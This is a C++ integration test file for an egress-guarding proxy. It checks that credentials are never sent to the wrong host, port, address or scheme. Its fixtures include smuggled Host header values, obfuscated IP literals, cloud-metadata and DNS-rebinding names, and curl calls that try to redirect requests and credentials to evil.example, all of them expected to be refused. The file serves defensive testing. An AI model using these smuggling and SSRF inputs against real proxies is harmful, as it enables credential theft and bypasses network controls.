// Rows D of the threat catalogue: sending the secret to the wrong place.
#include <gmock/gmock.h>

#include <cstdio>

#include "files.h"
#include "guarded.h"
#include "leak.h"

namespace sallyport::integration {
namespace {

using testing::Contains;
using testing::Each;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

class WrongPlace : public IntegrationTest {
protected:
    static void expect_statuses(const std::vector<RawCase>& cases, const std::vector<RawResult>& results,
                                const std::vector<int>& allowed) {
        for (std::size_t i = 0; i < cases.size(); ++i) {
            EXPECT_THAT(allowed, Contains(results[i].status())) << cases[i].bytes << "\n"
                                                                << results[i].outcome << "\n"
                                                                << results[i].received;
        }
    }
};

TEST_F(WrongPlace, D1AHostOtherThanTheSniIsMisdirected) {
    Guard guard(policy(kApiAndOpen));
    std::vector<RawCase> cases;
    for (const char* host : {"evil.example", "open.acme.example", "denied.example", "api.acme.example.evil.example",
                             "api.acme.example:444", "api.acme.example:80", "203.0.113.10", "xapi.acme.example"}) {
        cases.push_back({.bytes = get("/d1", host)});
    }
    expect_statuses(cases, guard.raw_all(cases), {421});
    EXPECT_THAT(seen_by("api.acme.example"), Not(HasSubstr("/d1")));
    EXPECT_THAT(seen_by("open.acme.example"), Not(HasSubstr("/d1")));
    EXPECT_THAT(world().received("evil.example"), IsEmpty());
}

TEST_F(WrongPlace, D2AnSniOtherThanTheHostIsMisdirected) {
    Guard guard(policy(kApiAndOpen));
    auto results = guard.raw_all({
        {.bytes = get("/d2"), .host = "api.acme.example", .sni = "evil.example"},
        {.bytes = get("/d2"), .host = "evil.example", .sni = "api.acme.example"},
        {.bytes = get("/d2"), .host = "evil.example"},
        {.bytes = get("/d2"), .host = "open.acme.example", .sni = "api.acme.example"},
        {.bytes = get("/d2"), .host = "203.0.113.66", .sni = "evil.example"},
    });
    for (const auto& result : results) EXPECT_NE(result.status(), 200) << result.received;
    for (int i : {0, 1, 3}) EXPECT_THAT(results[i].outcome, HasSubstr("tls:")) << i;
    for (const char* name : {"api.acme.example", "open.acme.example", "evil.example"})
        EXPECT_THAT(seen_by(name), Not(HasSubstr("/d2")));
}

// The address that a client chooses is not where its request goes.
TEST_F(WrongPlace, D3TheClientsAddressIsNotDialled) {
    Guard guard(policy(kApiAndOpen));
    EXPECT_EQ(guard.curl({"--resolve", "api.acme.example:443:203.0.113.66", "https://api.acme.example/private"}).out,
              "welcome\n");
    EXPECT_EQ(guard.curl({"--connect-to", "api.acme.example:443:evil.example:443", "https://api.acme.example/private"}).out,
              "");
    EXPECT_THAT(guard.curl({"--resolve", "open.acme.example:80:203.0.113.66", "http://open.acme.example/echo"}).out,
                HasSubstr("\"GET\""));
    EXPECT_EQ(guard.curl({"--resolve", "api.acme.example:443:[2001:db8::66]", "https://api.acme.example/private"}).out,
              "welcome\n");
    EXPECT_THAT(world().network().reached(), Each(Not(HasSubstr("203.0.113.66"))));
    EXPECT_THAT(world().received("evil.example"), IsEmpty());
}

TEST_F(WrongPlace, D4AnAbsoluteFormThatNamesAnotherHostIsRefused) {
    Guard guard(policy(kApiAndOpen));
    std::vector<RawCase> cases = {
        {.bytes = get("https://evil.example/d4")},
        {.bytes = get("https://open.acme.example/d4")},
        {.bytes = get("https://api.acme.example/d4", "evil.example")},
        {.bytes = get("http://api.acme.example/d4")},
        {.bytes = get("https://api.acme.example:8443/d4")},
        {.bytes = get("https://user@api.acme.example/d4")},
        {.bytes = get("ftp://api.acme.example/d4")},
        {.bytes = get("https://api.acme.example@evil.example/d4")},
        {.bytes = get("//evil.example/d4", "api.acme.example:99")},
    };
    expect_statuses(cases, guard.raw_all(cases), {400, 421});
    EXPECT_THAT(seen_by("api.acme.example"), Not(HasSubstr("d4")));
    EXPECT_EQ(guard.raw({.bytes = get("https://api.acme.example/echo/d4same")}).status(), 200);
    EXPECT_THAT(seen_by("api.acme.example"), HasSubstr("GET /echo/d4same HTTP/1.1\r\nHost: api.acme.example\r\n"));
}

TEST_F(WrongPlace, D5AHostThatIsNotOnePlainNameIsRefused) {
    Guard guard(policy(kApiAndOpen));
    const std::string end = "\r\nConnection: close\r\n\r\n";
    std::vector<std::string> hosts = {
        "Host: api.acme.example\r\nHost: evil.example",
        "Host: api.acme.example\r\nHost: api.acme.example",
        "Host: api.acme.example, evil.example",
        "Host: api.acme.example evil.example",
        "Host: api.acme.example\tevil.example",
        "Host: evil.example@api.acme.example",
        "Host: api.acme.example@evil.example",
        "Host: api.acme.example#evil.example",
        "Host: api.acme.example?evil.example",
        "Host: api.acme.example/evil.example",
        "Host: api.acme.example\\evil.example",
        std::string("Host: api.acme.example\0evil.example", 36),
        "Host: api.acme.example:443:80",
        "Host: api.acme.example:",
        "Host: api.acme.example:x",
        "Host: api.acme.example:0",
        "Host: api.acme.example:65979",
        "Host: [api.acme.example]",
        "Host: api.acme.example%00",
        "Host:",
        "Host: .",
        "Host: api..acme.example",
        "X-Nothing: here",
        "Host : api.acme.example",
        " Host: api.acme.example",
        "Host: api.acme.example\r\n evil.example",
        "Host: <api.acme.example>",
        "Host: \"api.acme.example\"",
        "Host: api.acme.example;a=b",
        "Host: -api.acme.example..",
        "Host: api.acme.example:+443",
    };
    std::vector<RawCase> cases;
    for (const auto& host : hosts) cases.push_back({.bytes = "GET /d5 HTTP/1.1\r\n" + host + end});
    expect_statuses(cases, guard.raw_all(cases), {400});
    EXPECT_THAT(seen_by("api.acme.example"), Not(HasSubstr("/d5")));
    EXPECT_THAT(world().received("evil.example"), IsEmpty());
}

TEST_F(WrongPlace, D6OneNameHasOneFormEverywhere) {
    Guard guard(policy(kApiAndOpen + "      - { host: \"bücher.acme.example\" }\n"));
    for (const char* same : {"API.ACME.EXAMPLE", "api.acme.example.", "Api.Acme.Example:443", "api.acme.example"}) {
        EXPECT_EQ(guard.raw({.bytes = get("/echo/d6same", same)}).status(), 200) << same;
    }
    EXPECT_EQ(guard.curl({"https://API.acme.example./private"}).out, "welcome\n");
    EXPECT_THAT(seen_by("api.acme.example"), Not(HasSubstr("Host: A")));
    std::vector<RawCase> others;
    for (const char* host : {"%61pi.acme.example", "api.acme.example..", "\xEF\xBD\x81pi.acme.example\xE2\x80\xAE", "xn--a",
                             "api\xCC\x81.acme.example",
                             "api.acme.ex\xC2\xAD"
                             "ample.evil.example",
                             "api\xE3\x80\x82"
                             "acme.evil",
                             "\xFF\xFE.acme.example"}) {
        others.push_back({.bytes = get("/d6other", host)});
    }
    expect_statuses(others, guard.raw_all(others), {400, 421});
    EXPECT_THAT(seen_by("api.acme.example"), Not(HasSubstr("/d6other")));
}

TEST_F(WrongPlace, D7AWildcardIsOneWholeLabel) {
    Guard guard(policy("      - { host: \"*.wild.acme.example\", credential: token }\n"));
    EXPECT_EQ(guard.curl({"https://a.wild.acme.example/private"}).out, "welcome\n");
    for (const char* host : {"wild.acme.example", "a.b.wild.acme.example", "notwild.acme.example",
                             "a.wild.acme.example.evil.example", "a-wild.acme.example"}) {
        Finished curl = guard.curl({"-o", "/dev/null", "-w", "%{http_code}", std::string("https://") + host + "/private"});
        EXPECT_EQ(curl.out, "403") << host;
    }
}

TEST_F(WrongPlace, D7ACredentialForAPublicSuffixDoesNotLoad) {
    for (const char* host : {"*.com", "**.com", "*.co.uk", "*.github.io", "**"}) {
        std::string file = world().path(world().fresh("suffix") + ".yaml");
        write_file(file, policy(std::string("      - { host: \"") + host + "\", credential: token }\n"));
        Finished check = finish(world().start({.argv = {SALLYPORT_PROGRAM, "check", file}}));
        EXPECT_NE(check.code, 0) << host;
        EXPECT_THAT(check.all(), HasSubstr(file + ":")) << host;
    }
}

TEST_F(WrongPlace, D8AddressLiteralsAreRefusedInEverySpelling) {
    Guard guard(policy(kApiAndOpen + "      - { host: \"**.example\" }\n"));
    std::vector<RawCase> cases;
    for (const char* host : {"203.0.113.11", "3405803787", "0xcb00710b", "0xcb.0.0x71.11", "0313.0.0161.013", "203.0.28939",
                             "[::ffff:203.0.113.11]", "[::ffff:cb00:710b]", "[64:ff9b::cb00:710b]", "[2001:db8::10]",
                             "[fe80::1%25eth0]", "0", "127.1", "0.0.0.0", "203.0.113.11."}) {
        cases.push_back({.bytes = get("/d8", host), .host = "203.0.113.11", .port = 80, .sni = "plain"});
        cases.push_back({.bytes = get("/d8", host), .host = "203.0.113.11", .port = 443, .sni = "-"});
    }
    EXPECT_EQ(guard.curl({"https://api.acme.example/private"}).out, "welcome\n");
    expect_statuses(cases, guard.raw_all(cases), {400, 403, 421});
    EXPECT_THAT(seen_by("open.acme.example") + seen_by("v6.acme.example"), Not(HasSubstr("/d8")));
    EXPECT_THAT(world().network().reached(), Not(Contains("203.0.113.11 tcp 80")));
}

TEST_F(WrongPlace, D9ARebindingNameIsCheckedAtEachConnection) {
    Guard guard(policy("      - { host: rebind.example }\n      - { host: mixed.example }\n"));
    EXPECT_EQ(guard.curl({"http://rebind.example/close"}).out, "until the end\n");
    for (int again = 0; again < 3; ++again)
        EXPECT_THAT(guard.curl({"http://rebind.example/close"}).out, HasSubstr("private_address"));
    EXPECT_THAT(guard.curl({"http://mixed.example/d9"}).out, HasSubstr("private_address"));
    EXPECT_THAT(world().network().reached(), Not(Contains("10.0.0.5 tcp 80")));
}

TEST_F(WrongPlace, D10NamesOfPrivateAddressesAreRefused) {
    Guard guard(policy("      - { host: \"**.example\" }\n      - { host: metadata.google.internal }\n"));
    for (const char* name : {"internal.example", "v6internal.example", "cname.example", "cnamemeta.example",
                             "metadata.google.internal", "metadata.example", "mapped.example", "nat64.example",
                             "loop.example", "loop6.example", "zero.example", "hostself.example", "hostself6.example",
                             "azuremeta.example", "alibabameta.example", "awsmeta6.example", "synthetic.example"}) {
        Finished curl = guard.curl({"-w", "%{http_code}", std::string("http://") + name + "/d10"});
        EXPECT_THAT(curl.out, HasSubstr("\"error\":\"private_address\"")) << name;
        EXPECT_THAT(curl.out, HasSubstr("}\n403")) << name;
    }
    for (const auto& destination : world().network().reached()) ADD_FAILURE() << destination;
}

TEST_F(WrongPlace, D10APrivateAddressNeedsAGrantOfNameAndNetwork) {
    Guard guard(
        policy("      - { host: internal.example, cidr: 10.0.0.0/8, credential: token }\n"
               "      - { host: cname.example, cidr: 10.1.0.0/16 }\n"));
    EXPECT_EQ(guard.curl({"https://internal.example/private"}).out, "welcome\n");
    EXPECT_THAT(guard.curl({"https://cname.example/private"}).out, HasSubstr("private_address"));
    EXPECT_NE(guard.curl({"-k", "https://10.0.0.5/private"}).out, "welcome\n");
    EXPECT_THAT(guard.curl({"http://metadata.example/"}).out, HasSubstr("denied"));
}

TEST_F(WrongPlace, D11AnotherPortIsAnotherPlace) {
    Guard guard(policy(kApiAndOpen));
    for (const char* url :
         {"https://api.acme.example:8443/d11", "http://api.acme.example:22/d11", "http://api.acme.example:25/d11",
          "http://api.acme.example:443/d11", "https://api.acme.example:80/d11"}) {
        EXPECT_THAT(guard.curl({"-w", "%{http_code}", url}).out, Not(HasSubstr("200"))) << url;
    }
    EXPECT_THAT(seen_by("api.acme.example"), Not(HasSubstr("/d11")));
    EXPECT_THAT(world().network().reached(), Each(Not(HasSubstr("8443"))));
    Guard granted(policy("      - { host: api.acme.example, port: 8443, credential: token }\n"), {.name = "granted"});
    EXPECT_EQ(granted.curl({"https://api.acme.example:8443/private"}).out, "welcome\n");
    EXPECT_THAT(granted.curl({"https://api.acme.example/private"}).out, HasSubstr("denied"));
}

TEST_F(WrongPlace, D12ACredentialDoesNotTravelInTheClear) {
    Guard guard(
        policy(kApiAndOpen +
               "      - { host: other.acme.example, scheme: http, credential: other, allow_cleartext_credential: true }\n"));
    EXPECT_THAT(guard.curl({"-w", "%{http_code}", "http://api.acme.example/d12"}).out, HasSubstr("403"));
    EXPECT_THAT(world().received("api.acme.example", 80), IsEmpty());
    guard.curl({"http://other.acme.example/echo"});
    EXPECT_THAT(world().all_received("other.acme.example", 80), HasSubstr("X-Auth-Token: " + std::string(kOtherSecret)));
}

TEST_F(WrongPlace, D13RedirectsAreTheClientsToFollowAndAreJudgedAnew) {
    Guard guard(policy(kApiAndOpen));
    Finished stay = guard.curl({"-D", "-", "https://api.acme.example/redirect?to=https://evil.example/d13"});
    EXPECT_THAT(stay.out, HasSubstr("HTTP/1.1 302"));
    EXPECT_THAT(stay.out, HasSubstr("Location: https://evil.example/d13"));
    guard.curl(
        {"-L", "--location-trusted", "-u", "me:mine", "https://api.acme.example/redirect?to=https://evil.example/d13"});
    EXPECT_THAT(world().received("evil.example"), IsEmpty());
    EXPECT_THAT(world().received("evil.example", 80), IsEmpty());
    guard.curl({"-L", "--location-trusted", "https://api.acme.example/redirect?to=https://open.acme.example/echo/d13"});
    EXPECT_THAT(seen_by("open.acme.example"), HasSubstr("/echo/d13"));
    EXPECT_THAT(leaks_in(seen_by("open.acme.example")), IsEmpty());
    EXPECT_THAT(guard.curl({"-L", "https://api.acme.example/redirect?to=http://api.acme.example/d13"}).out,
                HasSubstr("cleartext_credential"));
}

TEST_F(WrongPlace, D14TheSandboxsOwnCredentialsAreTakenOff) {
    Guard guard(policy(kApiAndOpen + "      - { host: git.acme.example, credential: bearer }\n"));
    for (const char* host : {"api.acme.example", "git.acme.example"}) {
        Finished curl = guard.curl(
            {"-H", "X-Auth-Token: theirs", "-H", "x-auth-token: theirs", "-H", "Authorization: Bearer theirs", "-H",
             "Proxy-Authorization: Basic theirs", "-H", "Cookie: session=theirs", "-H", "X-Api-Key: theirs", "-H",
             "X-Amz-Security-Token: theirs", std::string("https://") + host + "/private?access_token=theirs&keep=this"});
        EXPECT_EQ(curl.out, "welcome\n");
        EXPECT_THAT(seen_by(host), HasSubstr("/private?keep=this HTTP/1.1"));
        EXPECT_THAT(seen_by(host), Not(HasSubstr("theirs"))) << host;
    }
}

TEST_F(WrongPlace, D15AnOriginThatCannotBeVerifiedGetsNoRequest) {
    std::string rules;
    const std::vector<std::string> names = {"expired.example", "tomorrow.example", "selfsigned.example",
                                            "unknownroot.example", "wrongname.example"};
    for (const auto& name : names) rules += "      - { host: " + name + ", credential: token }\n";
    Guard guard(policy(rules + "      - { host: tls12.example, credential: token }\n"));
    for (const auto& name : names) {
        Finished curl = guard.curl({"-w", "%{http_code}", "https://" + name + "/private"});
        EXPECT_THAT(curl.out, HasSubstr("\"error\":\"tls_verify_failed\"")) << name;
        EXPECT_THAT(curl.out, HasSubstr("502")) << name;
        EXPECT_THAT(world().received(name), Not(IsEmpty())) << name;
        EXPECT_EQ(world().all_received(name), "") << name;
    }
    EXPECT_EQ(guard.curl({"https://tls12.example/private"}).out, "welcome\n");
}

}  // namespace
}  // namespace sallyport::integration
